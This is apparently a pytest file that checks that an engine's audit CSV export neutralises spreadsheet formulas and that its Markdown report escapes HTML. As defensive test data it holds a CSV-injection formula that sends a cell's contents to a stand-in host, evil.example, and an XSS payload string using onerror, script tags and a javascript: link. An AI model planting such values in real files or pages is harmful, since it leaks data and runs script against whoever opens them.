"""What a reader opens is safe: the audit CSV neutralises formulas, the Markdown report escapes HTML.

On SQLite and PostgreSQL, through the engine: a reason written as a formula or as HTML is stored as
given, exported to CSV with a leading quote, kept verbatim in the JSON lines, escaped in the report.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import Engine

from engine.clock import SimulatedClock
from engine.domain.lifecycle import Lifecycle
from engine.policy.model import Policy
from engine.reporting.build import report
from engine.reporting.render import render
from engine.services import queries

from .support import TRAINED_MENTOR, fire, import_examples

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'
HTML = '<img src=x onerror="alert(1)"> <script>alert(2)</script> | [x](javascript:alert(3))'


@pytest.fixture
def closed(store: Engine, policy: Policy, lifecycle: Lifecycle, clock: SimulatedClock) -> list[int]:
    rels = import_examples(store, policy, clock)
    fire(store, lifecycle, clock, rels[0], "match", mentor=TRAINED_MENTOR)
    fire(store, lifecycle, clock, rels[0], "close", reason=FORMULA)
    return rels


def test_the_audit_csv_neutralises_a_formula_and_the_json_lines_keep_it(
    store: Engine, closed: list[int]
) -> None:
    out = io.StringIO()
    queries.export(store, out, "csv")
    records = list(csv.DictReader(io.StringIO(out.getvalue())))
    (entry,) = [r for r in records if r["trigger"] == "close"]
    assert entry["reason"] == "'" + FORMULA
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(value.startswith(starts) for r in records for value in r.values())

    lines = io.StringIO()
    queries.export(store, lines, "jsonl")
    (raw,) = [json.loads(line) for line in lines.getvalue().splitlines() if '"close"' in line]
    assert raw["reason"] == FORMULA  # the verbatim export, whose hashes can be recomputed


def test_the_markdown_report_escapes_html_from_a_reason(
    store: Engine, policy: Policy, lifecycle: Lifecycle, clock: SimulatedClock
) -> None:
    rels = import_examples(store, policy, clock)
    fire(store, lifecycle, clock, rels[0], "match", mentor=TRAINED_MENTOR)
    fire(store, lifecycle, clock, rels[0], "close", reason=HTML)
    text = render(report(store, policy, clock.now()), "md")
    assert "<img" not in text and "<script" not in text
    assert "[x](javascript" not in text  # a link only with its brackets escaped
    row = next(line for line in text.splitlines() if "onerror" in line)
    assert row.startswith('| &lt;img src=x onerror="alert(1)"&gt; &lt;script&gt;alert(2)&lt;/script&gt;')
    assert "\\| \\[x\\](javascript:alert(3)) | 1 |" in row
